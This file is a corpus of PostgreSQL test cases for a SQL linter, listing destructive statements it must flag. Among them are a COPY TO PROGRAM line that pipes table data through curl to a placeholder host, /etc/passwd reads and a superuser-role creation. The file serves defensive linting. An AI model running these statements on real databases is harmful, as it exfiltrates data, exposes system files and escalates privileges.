-- Destructive or non-idempotent statements: each case must produce at least one ERROR finding
-- from repair.lint, and the rule named after `case:` must be among the findings.
--
-- Format: a line `-- case: <expected-rule> <short name>` starts a case; the case body (one or
-- more lines) runs until the next `-- case:` line. tests/tests/lint.rs lints every body under a
-- minimal header (`-- repair: corpus_case` / `-- title: t`). Nothing here is ever executed, so
-- the objects named need not exist. Comments inside a body must not look like header lines
-- (`-- word: value`), or they would extend the header.

-- ===================================================================== ban-drop
-- case: ban-drop drop_table
DROP TABLE public.orders;

-- case: ban-drop drop_table_if_exists_quoted_cascade
drop table if exists "Public"."Order Items" cascade;

-- case: ban-drop drop_mixed_case_block_comment
DrOp /* sneaky */ TaBlE app.customers;

-- case: ban-drop drop_line_comment_between_keywords
DROP -- the table goes
  TABLE
  -- really
  app."Weird ""Name""";

-- case: ban-drop drop_after_dollar_quoted_decoy
CREATE TABLE IF NOT EXISTS public.notes (body text DEFAULT $q$DROP TABLE is only text$q$); DROP TABLE public.notes;

-- case: ban-drop drop_view_list
DROP VIEW IF EXISTS public.v1, public.v2 RESTRICT;

-- case: ban-drop drop_function
DROP FUNCTION IF EXISTS public.fix_totals(integer, text);

-- case: ban-drop drop_owned_by
DROP OWNED BY app_user CASCADE;

-- case: ban-drop drop_schema_cascade
DROP SCHEMA legacy CASCADE;

-- case: ban-drop drop_sequence_third_on_line
SELECT 1; SELECT 2; DROP SEQUENCE public.order_seq;

-- case: ban-drop drop_trigger
DROP TRIGGER IF EXISTS orders_audit ON public.orders;

-- case: ban-drop drop_extension
drop extension "pgcrypto";

-- case: ban-drop drop_materialized_view
DROP MATERIALIZED VIEW IF EXISTS reporting.daily_totals;

-- case: ban-drop drop_type
DROP TYPE public.mood;

-- case: ban-drop drop_policy
DROP POLICY tenant_isolation ON public.accounts;

-- case: ban-drop drop_database
DROP DATABASE IF EXISTS scratch;

-- case: ban-drop drop_index_concurrently_if_exists
DROP INDEX CONCURRENTLY IF EXISTS public.orders_email_idx;

-- ===================================================================== ban-truncate
-- case: ban-truncate truncate_plain
TRUNCATE public.audit_log;

-- case: ban-truncate truncate_only_restart_identity
truncate only "Events" restart identity;

-- case: ban-truncate truncate_table_list_cascade
TRUNCATE TABLE a, b, "C" CASCADE;

-- case: ban-truncate truncate_after_string_decoy
SELECT $$TRUNCATE$$ AS word; TrUnCaTe /* all of it */ TABLE public.sessions;

-- ===================================================================== ban-delete
-- case: ban-delete delete_where
DELETE FROM public.dups WHERE id > 1;

-- case: ban-delete delete_line_comment_using
delete -- only the duplicates
  from "Sales"."Orders" o using public.dup_ids d where o.id = d.id;

-- case: ban-delete delete_only_dollar_string
DELETE FROM ONLY public.notes WHERE body = $tag$it's; DELETE$tag$;

-- case: ban-delete explain_analyze_delete
EXPLAIN ANALYZE DELETE FROM public.orders;

-- case: ban-delete explain_options_delete
explain (analyze, buffers, format json) delete from public.orders where true;

-- case: ban-delete prepare_delete
PREPARE purge(int) AS DELETE FROM public.orders WHERE id = $1;

-- case: ban-delete rule_do_instead_delete
CREATE RULE purge_on_insert AS ON INSERT TO public.t DO INSTEAD DELETE FROM public.u;

-- case: ban-delete merge_when_matched_delete
MERGE INTO public.orders o USING public.stale s ON o.id = s.id WHEN MATCHED THEN DELETE;

-- case: ban-delete delete_in_cte
WITH gone AS (DELETE FROM public.orders RETURNING id) SELECT count(*) FROM gone;

-- case: ban-delete copy_delete_returning_to_stdout
COPY (DELETE FROM public.t RETURNING *) TO STDOUT;

-- case: ban-delete delete_second_on_line
CREATE SCHEMA IF NOT EXISTS app; DELETE FROM app.t;

-- ===================================================================== ban-update
-- case: ban-update update_all
UPDATE public.orders SET total = 0;

-- case: ban-update update_mixed_case_quoted_dollar
uPdAtE "Public"."T" SET "X" = $$new value$$ WHERE id = 1;

-- case: ban-update insert_on_conflict_do_update
INSERT INTO public.settings (k, v) VALUES ('a', 'b') ON CONFLICT (k) DO UPDATE SET v = excluded.v;

-- case: ban-update merge_matched_update
MERGE INTO public.t USING public.s ON t.id = s.id
  WHEN MATCHED THEN UPDATE SET v = s.v
  WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v);

-- case: ban-update explain_analyze_update
EXPLAIN ANALYZE UPDATE public.orders SET total = total;

-- case: ban-update update_from_then_select
UPDATE public.t SET v = s.v FROM public.s WHERE t.id = s.id; SELECT 1;

-- case: ban-update update_with_comment_between_keywords
UPDATE /* fix */ public.t /* now */ SET -- every row
  v = 1;

-- ===================================================================== ban-data-modifying-cte
-- case: ban-data-modifying-cte cte_delete_then_insert
WITH moved AS (DELETE FROM public.a RETURNING *) INSERT INTO public.b SELECT * FROM moved;

-- case: ban-data-modifying-cte cte_insert
WITH x AS (INSERT INTO public.log VALUES (1) RETURNING id) SELECT * FROM x;

-- case: ban-data-modifying-cte cte_update_lowercase_quoted
with "u" as (update public.t set x = 1 returning *) select * from "u";

-- case: ban-data-modifying-cte cte_nested_delete
WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM public.t RETURNING 1) SELECT * FROM c) SELECT * FROM b;

-- case: ban-data-modifying-cte cursor_over_update_cte
DECLARE cur CURSOR FOR WITH u AS (UPDATE public.t SET x = 1 RETURNING *) SELECT * FROM u;

-- case: ban-data-modifying-cte ctas_if_not_exists_over_delete_cte
CREATE TABLE IF NOT EXISTS public.kept AS WITH d AS (DELETE FROM public.t RETURNING *) SELECT * FROM d;

-- ===================================================================== ban-alter-table-drop
-- case: ban-alter-table-drop drop_column
ALTER TABLE public.t DROP COLUMN legacy;

-- case: ban-alter-table-drop drop_constraint_quoted
ALTER TABLE IF EXISTS "Public"."T" DROP CONSTRAINT IF EXISTS "t_fk";

-- case: ban-alter-table-drop drop_not_null_lowercase
alter table t alter column c drop not null;

-- case: ban-alter-table-drop drop_identity
ALTER TABLE public.t ALTER COLUMN id DROP IDENTITY IF EXISTS;

-- case: ban-alter-table-drop detach_partition
ALTER TABLE public.events DETACH PARTITION public.events_2020;

-- case: ban-alter-table-drop no_inherit
ALTER TABLE public.child NO INHERIT public.parent;

-- case: ban-alter-table-drop add_if_not_exists_then_drop
ALTER TABLE public.t ADD COLUMN IF NOT EXISTS a int, DROP COLUMN b;

-- case: ban-alter-table-drop drop_expression_comment
ALTER TABLE /* keep it */ ONLY public.t ALTER c DROP EXPRESSION;

-- case: ban-alter-table-drop drop_default
ALTER TABLE public.t ALTER COLUMN c DROP DEFAULT;

-- case: ban-alter-table-drop alter_type_drop_attribute
ALTER TYPE public.address DROP ATTRIBUTE zip;

-- ===================================================================== ban-alter-system
-- case: ban-alter-system alter_system_set
ALTER SYSTEM SET work_mem = '64MB';

-- case: ban-alter-system alter_system_reset_all_lowercase
alter system reset all;

-- case: ban-alter-system alter_system_comment
ALTER /* quietly */ SYSTEM SET max_connections TO 500;

-- ===================================================================== ban-transaction-control
-- case: ban-transaction-control begin_commit_around
BEGIN; CREATE TABLE IF NOT EXISTS public.t (id int); COMMIT;

-- case: ban-transaction-control commit
COMMIT;

-- case: ban-transaction-control savepoint
SAVEPOINT before_fix;

-- case: ban-transaction-control rollback_to_savepoint
ROLLBACK TO SAVEPOINT before_fix;

-- case: ban-transaction-control rollback
rollback;

-- case: ban-transaction-control start_transaction
START TRANSACTION ISOLATION LEVEL SERIALIZABLE;

-- case: ban-transaction-control set_transaction
SET TRANSACTION ISOLATION LEVEL REPEATABLE READ;

-- case: ban-transaction-control release_savepoint
RELEASE SAVEPOINT before_fix;

-- case: ban-transaction-control end_abort
END; ABORT;

-- case: ban-transaction-control prepare_transaction
PREPARE TRANSACTION 'fix-1';

-- ===================================================================== ban-set
-- case: ban-set session_replication_role
SET session_replication_role = replica;

-- case: ban-set search_path_lowercase
set search_path to evil, public;

-- case: ban-set set_local_other_setting
SET LOCAL work_mem = '1GB';

-- case: ban-set statement_timeout_not_local
SET statement_timeout = '1h';

-- case: ban-set reset_lock_timeout
RESET lock_timeout;

-- case: ban-set reset_all
RESET ALL;

-- case: ban-set set_time_zone
SET TIME ZONE 'UTC';

-- case: ban-set set_session_statement_timeout
SET SESSION statement_timeout = 0;

-- case: ban-set alter_database_set
ALTER DATABASE app SET work_mem = '1GB';

-- case: ban-set load_library
LOAD 'auto_explain';

-- ===================================================================== ban-role-change
-- case: ban-role-change set_role
SET ROLE postgres;

-- case: ban-role-change set_session_authorization_quoted
set session authorization "alice";

-- case: ban-role-change set_local_role
SET LOCAL ROLE admin;

-- case: ban-role-change reset_role
RESET ROLE;

-- case: ban-role-change reset_session_authorization
RESET SESSION AUTHORIZATION;

-- ===================================================================== ban-role-management
-- case: ban-role-management create_role
CREATE ROLE intruder LOGIN SUPERUSER;

-- case: ban-role-management create_user_dollar_password
create user bob2 password $$secret$$;

-- case: ban-role-management alter_role_superuser
ALTER ROLE app_user WITH SUPERUSER;

-- case: ban-role-management alter_user_set
ALTER USER app SET search_path = evil;

-- case: ban-role-management grant_role_to_role
GRANT repair_operators TO bob;

-- case: ban-role-management grant_role_quoted_admin_option
grant "admin" to "app" with admin option;

-- case: ban-role-management revoke_role
REVOKE admin FROM app;

-- case: ban-role-management drop_user
DROP USER IF EXISTS old_app;

-- case: ban-role-management reassign_owned
REASSIGN OWNED BY old_app TO new_app;

-- case: ban-role-management create_group
CREATE GROUP auditors_2;

-- ===================================================================== ban-copy-program
-- case: ban-copy-program copy_to_program
COPY public.t TO PROGRAM 'curl -d @- http://example.invalid';

-- case: ban-copy-program copy_from_program_dollar
copy public.t from program $$cat /etc/passwd$$;

-- case: ban-copy-program copy_to_server_file
COPY public.t TO '/tmp/out.csv' WITH (FORMAT csv);

-- case: ban-copy-program copy_query_to_program
COPY (SELECT * FROM public.t) TO PROGRAM 'gzip > /tmp/x.gz';

-- case: ban-copy-program copy_from_server_file
COPY public.t FROM '/etc/passwd';

-- ===================================================================== ban-non-transactional
-- case: ban-non-transactional vacuum_full
VACUUM FULL public.t;

-- case: ban-non-transactional vacuum_bare_lowercase
vacuum;

-- case: ban-non-transactional vacuum_options
VACUUM (VERBOSE, ANALYZE) public.t;

-- case: ban-non-transactional create_index_concurrently
CREATE INDEX CONCURRENTLY IF NOT EXISTS t_c_idx ON public.t (c);

-- case: ban-non-transactional reindex_concurrently
REINDEX INDEX CONCURRENTLY public.t_c_idx;

-- case: ban-non-transactional reindex_options_concurrently
REINDEX (CONCURRENTLY) TABLE public.t;

-- case: ban-non-transactional reindex_database
REINDEX DATABASE app;

-- case: ban-non-transactional create_database
CREATE DATABASE scratch;

-- case: ban-non-transactional drop_index_concurrently
DROP INDEX CONCURRENTLY public.t_c_idx;

-- case: ban-non-transactional detach_partition_concurrently
ALTER TABLE public.events DETACH PARTITION public.events_2020 CONCURRENTLY;

-- case: ban-non-transactional cluster_all
CLUSTER;

-- case: ban-non-transactional discard_all
DISCARD ALL;

-- case: ban-non-transactional create_tablespace
CREATE TABLESPACE fast LOCATION '/tmp/fast';

-- ===================================================================== require-if-not-exists
-- case: require-if-not-exists create_table
CREATE TABLE public.t (id int PRIMARY KEY);

-- case: require-if-not-exists create_unlogged_table_quoted
create unlogged table "App"."T" ("Id" int);

-- case: require-if-not-exists create_table_partition_of
CREATE TABLE public.events_2024 PARTITION OF public.events FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');

-- case: require-if-not-exists create_table_like
CREATE TABLE public.t_copy (LIKE public.t INCLUDING ALL);

-- case: require-if-not-exists create_unique_index_partial
CREATE UNIQUE INDEX users_email_uq ON public.users (lower(email)) WHERE deleted_at IS NULL;

-- case: require-if-not-exists create_index_unnamed
CREATE INDEX ON public.t (c);

-- case: require-if-not-exists create_schema
CREATE SCHEMA app;

-- case: require-if-not-exists create_schema_with_table
CREATE SCHEMA reporting CREATE TABLE daily (d date);

-- case: require-if-not-exists create_extension
CREATE EXTENSION pgcrypto;

-- case: require-if-not-exists create_sequence
CREATE SEQUENCE public.order_seq START 100;

-- case: require-if-not-exists create_table_as
CREATE TABLE public.snapshot AS SELECT * FROM public.orders;

-- case: require-if-not-exists create_materialized_view
CREATE MATERIALIZED VIEW public.mv AS SELECT 1 AS x;

-- case: require-if-not-exists select_into
SELECT * INTO public.orders_backup FROM public.orders;

-- case: require-if-not-exists select_into_with_cte
WITH q AS (SELECT 1 AS a) SELECT a INTO TEMP t2 FROM q;

-- case: require-if-not-exists add_column
ALTER TABLE public.t ADD COLUMN c int;

-- case: require-if-not-exists add_without_column_keyword
alter table public.t add c int default 0;

-- case: require-if-not-exists create_table_comment_between
CREATE /* idempotent? no */ TABLE -- missing the guard
  public.t3 (id int);

-- ===================================================================== require-or-replace
-- case: require-or-replace create_view
CREATE VIEW public.v AS SELECT 1 AS one;

-- case: require-or-replace create_recursive_view
CREATE RECURSIVE VIEW public.nums (n) AS VALUES (1) UNION ALL SELECT n + 1 FROM nums WHERE n < 10;

-- case: require-or-replace create_trigger
CREATE TRIGGER orders_audit BEFORE INSERT ON public.orders FOR EACH ROW EXECUTE FUNCTION public.audit();

-- case: require-or-replace create_constraint_trigger
CREATE CONSTRAINT TRIGGER orders_check AFTER INSERT ON public.orders DEFERRABLE FOR EACH ROW EXECUTE FUNCTION public.chk();

-- case: require-or-replace create_function
CREATE FUNCTION public.one() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;

-- case: require-or-replace create_procedure_named_dollar
create procedure public.noop() language plpgsql as $body$ BEGIN NULL; END $body$;

-- ===================================================================== ban-rule
-- case: ban-rule create_rule_nothing
CREATE RULE no_insert AS ON INSERT TO public.t DO INSTEAD NOTHING;

-- case: ban-rule create_or_replace_rule_also_insert
CREATE OR REPLACE RULE log_update AS ON UPDATE TO public.t DO ALSO INSERT INTO public.log VALUES (1);

-- case: ban-rule create_rule_quoted_lowercase
create rule "R" as on delete to public.t do instead delete from public.u;

-- ===================================================================== syntax-error
-- case: syntax-error unbalanced_paren
CREATE TABLE IF NOT EXISTS public.t (id int;

-- case: syntax-error misspelt_keyword
SELEC 1;

-- case: syntax-error unterminated_string
SELECT 'unterminated;

-- case: syntax-error unterminated_dollar_quote
SELECT $fn$ never closed;

-- case: syntax-error unterminated_block_comment
/* unterminated comment SELECT 1;

-- case: syntax-error second_statement_broken
CREATE TABLE IF NOT EXISTS public.t (id int); SELECT FROM WHERE;

-- ===================================================================== empty-body
-- case: empty-body only_semicolons
; ;

-- case: empty-body only_comments
-- nothing to do here
/* and nothing here either */

-- ===================================================================== privileges, renames, types, session state (issue 7)
-- case: ban-grant grant_select_on_table
GRANT SELECT ON public.orders TO repair_auditors;

-- case: ban-grant grant_on_all_tables_and_schema
GRANT USAGE ON SCHEMA app TO app_ro; GRANT SELECT, INSERT ON ALL TABLES IN SCHEMA app TO app_rw;

-- case: ban-grant revoke_execute_on_function
REVOKE EXECUTE ON FUNCTION public.fix_totals(integer) FROM PUBLIC;

-- case: ban-grant alter_default_privileges
ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO app_ro;

-- case: ban-grant alter_table_owner
ALTER TABLE public.orders OWNER TO mallory;

-- case: ban-grant alter_function_owner
ALTER FUNCTION public.fix_totals(integer) OWNER TO mallory;

-- case: ban-grant disable_row_level_security
ALTER TABLE public.orders DISABLE ROW LEVEL SECURITY;

-- case: ban-alter-type alter_column_type_using
ALTER TABLE public.orders ALTER COLUMN total TYPE text USING '';

-- case: ban-alter-type alter_column_set_data_type
alter table public.orders alter total set data type numeric(10,2);

-- case: ban-alter-type alter_column_type_among_adds
ALTER TABLE public.orders ADD COLUMN IF NOT EXISTS note text, ALTER COLUMN id TYPE bigint;

-- case: ban-rename rename_table
ALTER TABLE public.orders RENAME TO orders_old;

-- case: ban-rename rename_index
ALTER INDEX public.orders_pkey RENAME TO orders_pkey_old;

-- case: ban-rename rename_column
ALTER TABLE public.orders RENAME COLUMN total TO total_old;

-- case: ban-rename rename_schema
ALTER SCHEMA app RENAME TO app_old;

-- case: ban-rename set_schema
ALTER TABLE public.orders SET SCHEMA archive;

-- case: ban-cursor declare_cursor_select
DECLARE order_cur CURSOR FOR SELECT id FROM public.orders;

-- case: ban-cursor declare_hold_cursor
DECLARE c CURSOR WITH HOLD FOR SELECT auth.wipe();

-- case: ban-cursor declare_binary_scroll_cursor
declare c2 binary scroll cursor for select 1;

-- case: ban-session-state prepare_select
PREPARE find_order(bigint) AS SELECT * FROM public.orders WHERE id = $1;

-- case: ban-session-state prepare_insert
PREPARE add_note(text) AS INSERT INTO public.notes(body) VALUES ($1);

-- case: ban-session-state prepare_values
prepare p as values (1);

-- case: ban-extension create_extension_dblink
CREATE EXTENSION IF NOT EXISTS dblink;

-- case: ban-extension create_extension_postgres_fdw
CREATE EXTENSION IF NOT EXISTS postgres_fdw SCHEMA public;

-- case: ban-extension create_extension_untrusted_language
CREATE EXTENSION IF NOT EXISTS plpython3u;

-- case: ban-alter-table-drop disable_trigger
ALTER TABLE public.orders DISABLE TRIGGER ALL;


-- case: ban-grant create_function_security_definer
CREATE OR REPLACE FUNCTION public.escalate() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;

-- case: ban-grant alter_function_security_definer
ALTER FUNCTION public.fix_totals(integer) SECURITY DEFINER;

-- case: ban-grant create_policy_permissive
CREATE POLICY see_all ON public.orders USING (true);

-- case: ban-grant alter_policy
ALTER POLICY see_all ON public.orders USING (true);

-- case: ban-session-state listen
LISTEN repair_channel;

-- case: ban-grant enable_row_level_security
ALTER TABLE public.orders ENABLE ROW LEVEL SECURITY;

-- case: ban-alter-table-drop enable_replica_trigger
ALTER TABLE public.orders ENABLE REPLICA TRIGGER orders_audit;

-- case: ban-alter-table-drop set_unlogged
ALTER TABLE public.orders SET UNLOGGED;

-- case: ban-grant view_security_invoker_off
ALTER VIEW public.orders_v SET (security_invoker = false);

-- case: ban-grant view_security_barrier_reset
ALTER VIEW public.orders_v RESET (security_barrier);

-- case: ban-event-trigger create_event_trigger_ddl
CREATE EVENT TRIGGER audit_ddl ON ddl_command_start EXECUTE FUNCTION public.log_ddl();

-- case: ban-event-trigger create_event_trigger_when_tag
CREATE EVENT TRIGGER guard_drop ON sql_drop WHEN TAG IN ('DROP TABLE') EXECUTE PROCEDURE public.on_drop();

-- case: ban-event-trigger alter_event_trigger_enable
ALTER EVENT TRIGGER audit_ddl ENABLE ALWAYS;
